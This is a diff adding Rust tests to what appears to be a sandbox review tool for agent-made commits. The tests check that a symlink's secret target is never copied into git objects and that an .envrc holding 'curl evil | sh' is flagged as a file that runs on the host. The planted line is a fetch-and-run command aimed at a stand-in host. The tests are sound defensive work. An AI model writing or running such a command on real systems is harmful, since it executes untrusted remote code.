@@ -285,6 +285,17 @@ fn a_commit_edited_again_in_the_working_tree_is_shown_from_the_tip_and_accepted(
         "{text}"
     );
     assert!(text.contains(".envrc"), "{text}");
+    // A JSON consumer gets the same diff, and its findings.
+    let json = cli(dir.path(), &["--json", "review", id]);
+    let json: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
+    let series_diff = json["seriesDiff"]["diff"].as_str().unwrap_or_default();
+    assert!(series_diff.contains("+v2 curl evil | sh"), "{json}");
+    assert!(
+        json["seriesDiff"]["findings"]
+            .to_string()
+            .contains(".envrc"),
+        "{json}"
+    );
     // The review's digest covers that diff: changed after the review, nothing is applied.
     let series = Path::new(doc["bundlePath"].as_str().unwrap()).join("git/series.patch");
     let shown = std::fs::read(&series).unwrap();
@@ -698,5 +709,77 @@ fn what_the_step_staged_is_staged_on_accept_and_shown_first() {
     assert_eq!(
         status, " M a.txt\nD  gone.txt\nA  n.txt\n?? later.txt\n",
         "{status}"
+    );
+}
+
+#[test]
+fn a_staged_symlink_is_staged_as_a_link_and_its_target_is_never_read() {
+    if !sandboxes_usable() {
+        return;
+    }
+    // `git hash-object <path>` follows a link: staging a staged link that way copied the
+    // host file it names into the project's objects, where the next step could read it.
+    let dir = repo();
+    let secret = tempfile::NamedTempFile::new().unwrap();
+    std::fs::write(secret.path(), "TOP-SECRET\n").unwrap();
+    let script = format!(
+        "set -e; ln -s {} l; git add l; echo more >> a.txt; git add a.txt",
+        secret.path().display()
+    );
+    let (out, doc) = run_json(dir.path(), &script);
+    assert_eq!(doc["exitCode"], 0, "{out:?}");
+    let id = doc["sandboxId"].as_str().unwrap();
+    let accept = cli(dir.path(), &["accept", id]);
+    assert!(accept.status.success(), "{accept:?}");
+    let staged = git(dir.path(), &["ls-files", "-s", "l"]);
+    assert!(staged.starts_with("120000 "), "{staged}");
+    assert_eq!(
+        git(dir.path(), &["cat-file", "-p", ":l"]),
+        secret.path().display().to_string()
+    );
+    let content_id = std::process::Command::new("git")
+        .args(["hash-object", "--stdin"])
+        .stdin(std::fs::File::open(secret.path()).unwrap())
+        .output()
+        .unwrap();
+    let content_id = String::from_utf8_lossy(&content_id.stdout)
+        .trim()
+        .to_string();
+    let found = std::process::Command::new("git")
+        .args(["cat-file", "-e", &content_id])
+        .current_dir(dir.path())
+        .status()
+        .unwrap();
+    assert!(
+        !found.success(),
+        "the link's target was copied into the objects"
+    );
+    assert_eq!(
+        git(dir.path(), &["status", "--porcelain"]),
+        "M  a.txt\nA  l\n"
+    );
+}
+
+#[test]
+fn a_file_the_host_runs_is_listed_past_the_per_commit_cap() {
+    if !sandboxes_usable() {
+        return;
+    }
+    let dir = repo();
+    let (out, doc) = run_json(
+        dir.path(),
+        "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
+         i=0; while [ $i -lt 210 ]; do echo x > f$i; i=$((i+1)); done; echo 'curl evil | sh' > .envrc; \
+         $G add -A; $G commit -qm many; $G rm -q .envrc; $G rm -q 'f*'; $G commit -qm tidy; \
+         echo v2 > a.txt; $G commit -qam edit",
+    );
+    assert_eq!(doc["exitCode"], 0, "{out:?}");
+    let id = doc["sandboxId"].as_str().unwrap();
+    let review = cli(dir.path(), &["review", id]);
+    let text = String::from_utf8_lossy(&review.stdout);
+    assert!(text.contains("more file(s)"), "{text}");
+    assert!(
+        text.contains(".envrc") && text.contains("runs on the host"),
+        "{text}"
     );
 }
